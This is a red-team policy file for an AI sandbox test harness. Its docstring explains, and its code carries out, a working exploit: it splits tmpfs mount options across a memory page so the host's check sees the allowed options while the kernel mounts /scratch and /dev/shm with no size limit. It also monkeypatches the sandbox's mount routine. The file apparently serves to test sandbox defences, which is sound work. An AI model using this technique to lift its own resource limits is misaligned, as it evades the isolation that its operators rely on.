"""Red team, a mount's options read one way by the host and another by the kernel: the host
reads the options a case's starter passes to mount from the starter's memory. An outside red
team's import replaced the starter's mount step: it put the case's exact options at the very
end of one page, with no end of string there, and ",size=0" on the next page. The host read the
case's options and let the mount through; the kernel read on, and mounted the case's scratch
folder and /dev/shm with no size limit (a case wrote 160 MiB where 64 MiB is its cap).

This policy does the same, and each case writes 80 MiB into its scratch folder, in two files
under the file-size limit. It escalates where that fit, and refunds where it did not. (Where
the host refuses the mount, its starter cannot make the case: the run stops, naming the
policy.)

The test (tests/sandbox/test_private_leaks.py) copies this file beside its run; there is nothing to
bake in.
"""

import ctypes
import mmap
import os

from finality_gym.policy import Policy

CONFIG: dict = {}  # the test bakes its values in here
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
_libc.mount.argtypes = (ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong,
                        ctypes.c_void_p)
_kept = []


def _fresh_places(options: bytes) -> None:
    page = mmap.PAGESIZE
    area = mmap.mmap(-1, 2 * page, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    _kept.append(area)
    base = ctypes.addressof(ctypes.c_char.from_buffer(area))
    area[page - len(options):page] = options  # no end of string on this page
    area[page:page + 8] = b",size=0\0"
    _libc.mprotect(base + page, page, mmap.PROT_READ)  # a mapping of its own
    for place in (b"/scratch", b"/dev/shm"):
        if _libc.mount(b"tmpfs", place, b"tmpfs", 2 | 4, base + page - len(options)):
            raise OSError(ctypes.get_errno(), "mount")


try:
    from agents.sandbox import isolation
    isolation._fresh_places = _fresh_places
except ImportError:
    pass


def _fits() -> bool:
    block = b"x" * (1 << 20)
    try:
        for name in ("a", "b"):
            with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), name), "wb") as out:
                for _ in range(40):
                    out.write(block)
        return True
    except OSError:
        return False


class MountOptions(Policy):
    name = "redteam_mount_options"

    def plan(self):
        yield ("escalate", {}) if _fits() else ("refund", {})
